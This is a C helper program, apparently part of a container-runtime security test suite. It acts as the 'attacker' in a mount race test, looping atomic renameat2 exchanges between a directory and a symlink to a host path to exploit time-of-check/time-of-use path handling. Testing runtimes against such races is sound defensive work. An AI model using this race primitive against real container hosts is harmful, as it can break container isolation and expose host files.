// The attacker of mount-race.test.js, run in a container that shares a volume
// with the victim: `swap DIR NAME...` exchanges DIR/NAME with DIR/NAME.swap
// (renameat2 RENAME_EXCHANGE, atomic: each name always exists) for every NAME,
// in a tight loop, until killed. The test prepares NAME as a directory and
// NAME.swap as a symlink to a host path, so a runtime that resolves a path
// through DIR/NAME and then uses the path string again sees either one.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: swap DIR NAME...\n");
    return 2;
  }
  int dir = open(argv[1], O_DIRECTORY | O_RDONLY | O_CLOEXEC);
  if (dir < 0) {
    perror(argv[1]);
    return 1;
  }
  int n = argc - 2;
  char **swapped = calloc(n, sizeof(char *));
  for (int i = 0; i < n; i++) {
    swapped[i] = malloc(strlen(argv[i + 2]) + 6);
    sprintf(swapped[i], "%s.swap", argv[i + 2]);
  }
  for (;;) {
    for (int i = 0; i < n; i++) {
      if (syscall(SYS_renameat2, dir, argv[i + 2], dir, swapped[i], RENAME_EXCHANGE) < 0) {
        perror("renameat2");
        return 1;
      }
    }
  }
}
